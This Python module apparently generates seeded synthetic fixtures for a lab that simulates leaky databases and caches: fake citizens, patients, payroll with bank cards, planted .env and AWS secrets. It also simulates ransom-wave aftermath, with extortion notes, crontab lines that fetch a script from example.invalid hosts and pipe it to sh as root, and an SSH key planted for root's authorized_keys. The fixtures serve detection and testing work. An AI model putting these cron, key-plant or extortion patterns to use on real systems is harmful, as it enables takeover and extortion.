"""Synthetic records for the lab: deterministic (seeded Faker zh_CN / en_US), realistic-looking, never real.

Chinese resident IDs are built here (not with Faker's `ssn`, whose birth dates move with today's date) so
that an ID, the birth date and the gender of one person agree and the data is the same on every run.
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import json
import random
import tarfile
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from typing import Any

from faker import Faker
from faker.providers.ssn.zh_CN import Provider as ChineseSsn

SEED = 2026
_WEIGHTS = (7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2)
_CHECK = "10X98765432"
_COUNTIES = tuple(code for code in ChineseSsn.area_codes if not code.endswith("00"))
_EPOCH = date(1940, 1, 1)


def check_digit(first17: str) -> str:
    """ISO 7064 MOD 11-2 check character of an 18-digit Chinese resident ID."""
    return _CHECK[sum(int(d) * w for d, w in zip(first17, _WEIGHTS, strict=True)) % 11]


def national_id(rnd: random.Random, birth: date, male: bool) -> str:
    """A valid-looking resident ID: county code, birth date, sequence (odd for men), check digit."""
    body = f"{rnd.choice(_COUNTIES)}{birth:%Y%m%d}{rnd.randrange(int(male), 1000, 2):03d}"
    return body + check_digit(body)


@dataclass(frozen=True, slots=True)
class Person:
    name: str
    national_id: str
    phone: str
    email: str
    address: str
    birth_date: date
    birth_place: str
    gender: str
    """男 or 女."""


@dataclass(frozen=True, slots=True)
class Table:
    """A table to create and fill: column definitions (name, SQL type) and rows in column order."""

    name: str
    columns: tuple[tuple[str, str], ...]
    rows: list[tuple[Any, ...]]

    @property
    def column_names(self) -> list[str]:
        return [name for name, _ in self.columns]


class Synth:
    """One deterministic stream of synthetic data (same seed, same data)."""

    def __init__(self, seed: int) -> None:
        self.rnd = random.Random(seed)
        self.zh = Faker("zh_CN")
        self.zh.seed_instance(seed)
        self.en = Faker("en_US")
        self.en.seed_instance(seed)

    def day(self, start: date, days: int) -> date:
        return start + timedelta(days=self.rnd.randrange(days))

    def moment(self, year: int) -> datetime:
        """A time in `year` (UTC, whole seconds)."""
        return datetime(year, 1, 1, tzinfo=UTC) + timedelta(seconds=self.rnd.randrange(365 * 86400))

    def money(self, low: int, high: int) -> Decimal:
        return Decimal(self.rnd.randrange(low * 100, high * 100)) / 100

    def person(self, english: bool = False) -> Person:
        male = self.rnd.random() < 0.5
        birth = self.day(_EPOCH, 66 * 365)
        fake = self.en if english else self.zh
        return Person(
            name=fake.name_male() if male else fake.name_female(),
            national_id=national_id(self.rnd, birth, male),
            phone=fake.phone_number(),
            email=fake.email(),
            address=fake.address().replace("\n", ", "),
            birth_date=birth,
            birth_place=self.zh.province() + self.zh.city(),
            gender="男" if male else "女",
        )

    def people(self, n: int, english_share: float = 0.0) -> list[Person]:
        return [self.person(self.rnd.random() < english_share) for _ in range(n)]


def _people_table(name: str, people: list[Person], columns: dict[str, tuple[str, str]]) -> Table:
    """A table of people: `columns` maps column name -> (Person attribute, SQL type); an `id` comes first."""
    return Table(
        name,
        (("id", "INTEGER PRIMARY KEY"), *((col, sql) for col, (_, sql) in columns.items())),
        [(i, *(getattr(p, attr) for attr, _ in columns.values())) for i, p in enumerate(people, 1)],
    )


_CASE_TYPES = (
    "盗窃",
    "诈骗",
    "电信网络诈骗",
    "故意伤害",
    "寻衅滋事",
    "交通肇事",
    "非法拘禁",
    "赌博",
    "走私",
    "失踪人口",
)
_RANKS = ("一级警员", "二级警员", "一级警司", "二级警司", "三级警司", "一级警督", "二级警督")
_DEPARTMENTS = ("内科", "外科", "儿科", "妇产科", "眼科", "口腔科", "急诊科", "皮肤科")


def police() -> list[Table]:
    """PostgreSQL `police`: citizens, case records that point at them, officers."""
    s = Synth(SEED + 1)
    citizen = _people_table(
        "citizen",
        s.people(3000),
        {
            "name": ("name", "TEXT NOT NULL"),
            "national_id": ("national_id", "CHAR(18) NOT NULL"),
            "phone": ("phone", "TEXT"),
            "address": ("address", "TEXT"),
            "birth_date": ("birth_date", "DATE"),
            "birth_place": ("birth_place", "TEXT"),
            "gender": ("gender", "TEXT"),
        },
    )
    cases = Table(
        "case_record",
        (
            ("id", "INTEGER PRIMARY KEY"),
            ("citizen_id", "INTEGER NOT NULL REFERENCES citizen(id)"),
            ("case_type", "TEXT NOT NULL"),
            ("description", "TEXT"),
            ("opened_on", "DATE"),
        ),
        [
            (
                i,
                s.rnd.randrange(1, 3001),
                s.rnd.choice(_CASE_TYPES),
                s.zh.sentence(12),
                s.day(date(2015, 1, 1), 3650),
            )
            for i in range(1, 501)
        ],
    )
    officer = Table(
        "officer",
        (
            ("id", "INTEGER PRIMARY KEY"),
            ("name", "TEXT NOT NULL"),
            ("badge_no", "CHAR(6) NOT NULL"),
            ("rank", "TEXT"),
            ("station", "TEXT"),
            ("phone", "TEXT"),
        ),
        [
            (
                i,
                s.zh.name(),
                f"{s.rnd.randrange(10**6):06d}",
                s.rnd.choice(_RANKS),
                s.zh.city() + s.zh.street_name() + "派出所",
                s.zh.phone_number(),
            )
            for i in range(1, 41)
        ],
    )
    return [citizen, cases, officer]


def shop() -> list[Table]:
    """PostgreSQL `shop`: customers (personal data) and orders (none)."""
    s = Synth(SEED + 2)
    customer = _people_table(
        "customer",
        s.people(1000, english_share=0.3),
        {
            "name": ("name", "TEXT"),
            "email": ("email", "TEXT"),
            "phone": ("phone", "TEXT"),
            "address": ("address", "TEXT"),
        },
    )
    orders = Table(
        "orders",
        (
            ("id", "INTEGER PRIMARY KEY"),
            ("order_no", "TEXT NOT NULL"),
            ("amount", "NUMERIC(10,2)"),
            ("created_at", "TIMESTAMPTZ"),
        ),
        [(i, f"SO{2025_000_000 + i * 7}", s.money(5, 3000), s.moment(2025)) for i in range(1, 2501)],
    )
    return [customer, orders]


def hr() -> list[Table]:
    """PostgreSQL `hr` (password-protected server): employees."""
    s = Synth(SEED + 3)
    rows = [
        (
            i,
            p.name,
            p.national_id,
            p.phone,
            p.email,
            s.zh.job(),
            s.money(6000, 60000),
            s.day(date(2010, 1, 1), 5000),
        )
        for i, p in enumerate(s.people(300), 1)
    ]
    return [
        Table(
            "employee",
            (
                ("id", "INTEGER PRIMARY KEY"),
                ("name", "TEXT"),
                ("national_id", "CHAR(18)"),
                ("phone", "TEXT"),
                ("email", "TEXT"),
                ("position", "TEXT"),
                ("monthly_salary", "NUMERIC(10,2)"),
                ("hired_on", "DATE"),
            ),
            rows,
        )
    ]


def hospital() -> list[Table]:
    """MariaDB `hospital`: patients and their visits."""
    s = Synth(SEED + 4)
    patient = _people_table(
        "patient",
        s.people(2000),
        {
            "name": ("name", "VARCHAR(64) NOT NULL"),
            "id_card": ("national_id", "CHAR(18) NOT NULL"),
            "mobile": ("phone", "VARCHAR(32)"),
            "address": ("address", "VARCHAR(255)"),
            "birth_date": ("birth_date", "DATE"),
            "gender": ("gender", "VARCHAR(4)"),
        },
    )
    visit = Table(
        "visit",
        (
            ("id", "INT PRIMARY KEY"),
            ("patient_id", "INT NOT NULL"),
            ("department", "VARCHAR(32)"),
            ("diagnosis", "VARCHAR(255)"),
            ("visited_at", "DATETIME"),
            ("fee", "DECIMAL(10,2)"),
        ),
        [
            (
                i,
                s.rnd.randrange(1, 2001),
                s.rnd.choice(_DEPARTMENTS),
                s.zh.sentence(6),
                s.moment(2024).replace(tzinfo=None),
                s.money(20, 5000),
            )
            for i in range(1, 4001)
        ],
    )
    return [patient, visit]


def crm() -> list[Table]:
    """MariaDB `crm`: contacts."""
    s = Synth(SEED + 5)
    people = s.people(800, english_share=0.25)
    return [
        Table(
            "contacts",
            (
                ("id", "INT PRIMARY KEY"),
                ("name", "VARCHAR(64)"),
                ("email", "VARCHAR(128)"),
                ("phone", "VARCHAR(32)"),
                ("company", "VARCHAR(128)"),
            ),
            [(i, p.name, p.email, p.phone, s.zh.company()) for i, p in enumerate(people, 1)],
        )
    ]


def payroll() -> list[Table]:
    """MariaDB `payroll` (password-protected server): monthly salaries with bank cards."""
    s = Synth(SEED + 6)
    rows = []
    for i, p in enumerate(s.people(200), 1):
        gross = s.money(5000, 40000)
        rows.append(
            (
                i,
                p.name,
                p.national_id,
                s.zh.credit_card_number(),
                "2026-10",
                gross,
                (gross * Decimal("0.78")).quantize(Decimal("0.01")),
            )
        )
    return [
        Table(
            "salary",
            (
                ("id", "INT PRIMARY KEY"),
                ("employee_name", "VARCHAR(64)"),
                ("id_card", "CHAR(18)"),
                ("bank_card", "VARCHAR(19)"),
                ("pay_month", "CHAR(7)"),
                ("gross", "DECIMAL(10,2)"),
                ("net", "DECIMAL(10,2)"),
            ),
            rows,
        )
    ]


def _citizen_hash(p: Person) -> dict[str, str]:
    return {
        "name": p.name,
        "id_number": p.national_id,
        "phone": p.phone,
        "address": p.address,
        "birth_date": p.birth_date.isoformat(),
    }


def _session(s: Synth, uid: int) -> tuple[str, str]:
    value = {
        "uid": uid,
        "role": s.rnd.choice(("user", "user", "admin")),
        "login_at": s.moment(2026).isoformat(),
    }
    return f"session:{s.zh.uuid4()}", json.dumps(value)


@dataclass(frozen=True, slots=True)
class RedisData:
    """Keys per database number: hashes, strings and lists."""

    hashes: dict[int, dict[str, dict[str, str]]]
    strings: dict[int, dict[str, str]]
    lists: dict[int, dict[str, list[str]]]

    def key_counts(self) -> dict[int, int]:
        dbs = sorted({*self.hashes, *self.strings, *self.lists})
        return {
            db: len(self.hashes.get(db, {})) + len(self.strings.get(db, {})) + len(self.lists.get(db, {}))
            for db in dbs
        }


def redis_open() -> RedisData:
    """db 0: 1000 citizen hashes, 200 sessions, an SMS queue; db 3: 20 cache entries."""
    s = Synth(SEED + 7)
    citizens = {f"citizen:{i}": _citizen_hash(p) for i, p in enumerate(s.people(1000), 1)}
    sessions = dict(_session(s, s.rnd.randrange(1, 1001)) for _ in range(200))
    sms = [
        json.dumps(
            {
                "to": s.zh.phone_number(),
                "text": f"【平安城市】您的验证码是{s.rnd.randrange(10**6):06d}，5分钟内有效。",
            },
            ensure_ascii=False,
        )
        for _ in range(50)
    ]
    cache = {
        f"cache:page:{i}": json.dumps(
            {"title": s.zh.sentence(4), "views": s.rnd.randrange(10**5)}, ensure_ascii=False
        )
        for i in range(1, 21)
    }
    return RedisData({0: citizens}, {0: sessions, 3: cache}, {0: {"queue:sms": sms}})


def redis_auth() -> RedisData:
    """db 0: 80 member hashes and 20 sessions (100 keys)."""
    s = Synth(SEED + 8)
    members = {f"member:{i}": _citizen_hash(p) for i, p in enumerate(s.people(80), 1)}
    return RedisData({0: members}, {0: dict(_session(s, i) for i in range(1, 21))}, {})


def memcached_items() -> dict[str, bytes]:
    """300 `user:{n}` JSON items and 50 `page:{n}` HTML fragments."""
    s = Synth(SEED + 9)
    items = {
        f"user:{i}": json.dumps(
            {"name": p.name, "email": p.email, "phone": p.phone}, ensure_ascii=False
        ).encode()
        for i, p in enumerate(s.people(300, english_share=0.2), 1)
    }
    for i in range(1, 51):
        items[f"page:{i}"] = (
            f"<div class='news'><h2>{s.zh.sentence(5)}</h2><p>{s.zh.paragraph(2)}</p></div>".encode()
        )
    return items


def ftp_files() -> dict[str, bytes]:
    """The anonymous FTP share: a customer export (CSV), a shop dump (SQL), a `.env` with a fake secret,
    and harmless files in nested directories; path -> content."""
    s = Synth(SEED + 10)
    people = s.people(120, english_share=0.3)
    export = "name,phone,email,national_id,address\n" + "".join(
        f'{p.name},{p.phone},{p.email},{p.national_id},"{p.address}"\n' for p in people
    )
    dump = (
        "CREATE TABLE customer (\n  id INTEGER PRIMARY KEY,\n  name TEXT,\n  email TEXT,\n  phone TEXT\n);\n"
    )
    dump += "".join(
        f"INSERT INTO customer VALUES ({i}, '{p.name}', '{p.email}', '{p.phone}');\n"
        for i, p in enumerate(s.people(60), 1)
    )
    return {
        ".env": f"DATABASE_URL=postgres://shop:{s.rnd.getrandbits(64):016x}@db.{FAKE_DOMAIN}/shop\n"
        f"SECRET_KEY={s.rnd.getrandbits(128):032x}\n".encode(),
        "backup/shop.sql": dump.encode(),
        "exports/customers_2025.csv": export.encode(),
        "pub/welcome.txt": f"{s.en.sentence(8)}\n".encode(),
        "pub/docs/2024/manual/notes.md": f"# Notes\n\n{s.en.paragraph(4)}\n".encode(),
        "pub/images/logo.png": b"\x89PNG\r\n\x1a\n" + bytes(s.rnd.getrandbits(8) for _ in range(2000)),
    }


REGISTRY_IMAGES = {"shop/api": ("1.0", "1.1", "latest"), "tools/backup": ("nightly",)}
"""The lab registry's repositories and their tags (every tag of a repository is its one image)."""


def registry_image(repository: str) -> tuple[dict[str, Any], bytes]:
    """One image of the lab registry: its config (Env with a fake database password and AWS secret,
    history) and its one layer, a gzipped tar holding a few of `ftp_files` (deterministic bytes)."""
    s = Synth(SEED + 11 + len(repository))
    env = [
        "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
        f"DB_HOST=db.{FAKE_DOMAIN}",
        f"DB_PASSWORD={s.en.password(length=16)}",
        f"AWS_ACCESS_KEY_ID=AKIA{s.rnd.getrandbits(64):016X}",
        f"AWS_SECRET_ACCESS_KEY={s.en.password(length=40, special_chars=False)}",
    ]
    config = {
        "architecture": "amd64",
        "os": "linux",
        "config": {"Env": env, "Cmd": ["/app/run"], "WorkingDir": "/app"},
        "rootfs": {"type": "layers", "diff_ids": []},
        "history": [{"created": "2025-01-01T00:00:00Z", "created_by": "COPY app /app # buildkit"}],
    }
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as tar:
        for path, content in ftp_files().items():
            if path.startswith(("pub/welcome", "backup/")):
                info = tarfile.TarInfo(f"app/{path}")
                info.size, info.mtime = len(content), 1735689600
                tar.addfile(info, io.BytesIO(content))
    config["rootfs"]["diff_ids"] = [f"sha256:{hashlib.sha256(raw.getvalue()).hexdigest()}"]
    return config, gzip.compress(raw.getvalue(), mtime=0)


# --- attacked services: what the public ransom waves left behind -----------------------------------
#
# Every address, host and contact below is harmless: the Bitcoin addresses are the well-known examples of
# the Bitcoin wiki and BIP-173 (valid checksums), the hosts and mail domains are under example.invalid
# (never resolves), and the onion address and SSH key are derived from a hash (nobody holds their keys).

FAKE_DOMAIN = "example.invalid"
MYSQL_WAVE_BTC = "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4"
"""BIP-173 test vector (P2WPKH, mainnet)."""
NOTE_TABLE_BTC = "1BoatSLRHtKNngkdXEeobR76b53LETtpyT"
"""The Bitcoin wiki's example address (P2PKH)."""


def fake_onion(label: str) -> str:
    """A v3 onion address with a valid checksum, built from a hash of `label` (no one holds its key)."""
    key = hashlib.sha256(f"leaksonar lab onion: {label}".encode()).digest()
    checksum = hashlib.sha3_256(b".onion checksum" + key + b"\x03").digest()[:2]
    return base64.b32encode(key + checksum + b"\x03").decode().lower() + ".onion"


def fake_ssh_key(label: str) -> str:
    """An ed25519 public-key line whose key is a hash of `label` (no one holds a matching private key)."""
    kind = b"ssh-ed25519"
    blob = len(kind).to_bytes(4, "big") + kind + (32).to_bytes(4, "big")
    blob += hashlib.sha256(f"leaksonar lab ssh key: {label}".encode()).digest()
    return f"ssh-ed25519 {base64.b64encode(blob).decode()} root@{label}"


MYSQL_WAVE_ONION = fake_onion("mysql wave")
MYSQL_WAVE_EMAIL = f"rambler+7C1F3A@{FAKE_DOMAIN}"
MYSQL_WAVE_NOTE = (
    f"All your data is backed up. You must pay 0.03 BTC to {MYSQL_WAVE_BTC} In 48 hours, your data will be "
    f"publicly disclosed and deleted. (more information: go to http://{MYSQL_WAVE_ONION}/) After paying send "
    f"mail to us: {MYSQL_WAVE_EMAIL} and we will provide a link for you to download your data. "
    "Your DBCODE is: 7C1F3A"
)
NOTE_TABLE_EMAIL = f"recoverdb@{FAKE_DOMAIN}"
NOTE_TABLE_NOTE = (
    f"All your data is a backed up. You must pay 0.04 BTC to {NOTE_TABLE_BTC} 48 hours for recover it. "
    "After 48 hours expiration we will leaked and exposed all your data. In case of refusal to pay, we will "
    "contact the General Data Protection Regulation, GDPR and notify them that you store user data in an "
    "open form and is not safe. Under the rules of the law, you face a heavy fine or arrest and your base "
    "dump will be dropped from our server! After paying write to me in the mail with your DB IP: "
    f"{NOTE_TABLE_EMAIL} and you will receive a link to download your database dump."
)

CRON_KEYS = {
    f"backup{i}": f"\n\n\n*/{i + 1} * * * * root {fetch} http://{host}.{FAKE_DOMAIN}/cr.sh | sh\n\n"
    for i, (fetch, host) in enumerate(
        (
            ("cd1 -fsSL", "update"),
            ("wget -q -O-", "update"),
            ("curl -fsSL", "mirror"),
            ("wd1 -q -O-", "mirror"),
        ),
        1,
    )
}
"""The cron-job attack: crontab lines that fetch and run a script (`cd1`/`wd1` are renamed curl/wget)."""
SSH_KEY_PLANT = {"crackit": f"\n\n\n{fake_ssh_key('crackit')}\n\n\n\n"}
"""The "crackit" attack: an SSH public key padded with blank lines, meant for root's authorized_keys."""


def redis_attacked() -> RedisData:
    """db 0 after the cron-job attack: the attack's keys (backup1..4, crackit) among what the application
    wrote again since the FLUSHALL: 3 user hashes, 4 sessions, a benign scheduled-job spec, a counter
    (14 keys in all, few enough that an inspection samples every one)."""
    s = Synth(SEED + 10)
    users = {
        f"user:{i}": {"name": p.name, "phone": p.phone, "email": p.email}
        for i, p in enumerate(s.people(3), 1)
    }
    ordinary = dict(_session(s, s.rnd.randrange(1, 4)) for _ in range(4))
    ordinary["cron:nightly_report"] = "0 3 * * * /usr/local/bin/report --daily"
    ordinary["counter:visits"] = str(s.rnd.randrange(10**6))
    return RedisData({0: users}, {0: {**CRON_KEYS, **SSH_KEY_PLANT, **ordinary}}, {})


def _webshop(s: Synth, users: int) -> list[Table]:
    """A small web shop's users and orders: what the attackers dump and drop."""
    user = _people_table(
        "users",
        s.people(users, english_share=0.3),
        {
            "name": ("name", "VARCHAR(64)"),
            "email": ("email", "VARCHAR(128)"),
            "phone": ("phone", "VARCHAR(32)"),
        },
    )
    orders = Table(
        "orders",
        (("id", "INTEGER PRIMARY KEY"), ("user_id", "INTEGER"), ("amount", "NUMERIC(10,2)")),
        [(i, s.rnd.randrange(1, users + 1), s.money(5, 3000)) for i in range(1, 2 * users + 1)],
    )
    return [user, orders]


def mysql_wave_dropped() -> list[Table]:
    """MariaDB `webshop` as it was before the attack (created, then dropped by the attacker)."""
    return _webshop(Synth(SEED + 11), 100)


def mysql_wave_note() -> list[Table]:
    """MariaDB `RECOVER_YOUR_DATA`: all that is left, one table with one row, the note."""
    return [
        Table(
            "RECOVER_YOUR_DATA",
            (
                ("id", "INT PRIMARY KEY"),
                ("warning", "TEXT"),
                ("bitcoin_address", "VARCHAR(64)"),
                ("email", "VARCHAR(128)"),
            ),
            [(1, MYSQL_WAVE_NOTE, MYSQL_WAVE_BTC, MYSQL_WAVE_EMAIL)],
        )
    ]


def note_table_dropped() -> list[Table]:
    """PostgreSQL `webapp`'s tables before the attack (dropped by the attacker)."""
    return _webshop(Synth(SEED + 12), 100)


def note_table_left() -> list[Table]:
    """PostgreSQL `webapp` after the attack: the note table, and a leftover the attacker did not take."""
    s = Synth(SEED + 13)
    note = Table(
        "readme",
        (("id", "INTEGER PRIMARY KEY"), ("content", "TEXT"), ("btc", "TEXT"), ("email", "TEXT")),
        [(1, NOTE_TABLE_NOTE, NOTE_TABLE_BTC, NOTE_TABLE_EMAIL)],
    )
    migrations = Table(
        "schema_migrations",
        (("version", "TEXT PRIMARY KEY"), ("applied_at", "TIMESTAMPTZ")),
        [(f"2024{i:02d}{s.rnd.randrange(1, 28):02d}093000", s.moment(2024)) for i in range(1, 6)],
    )
    return [note, migrations]
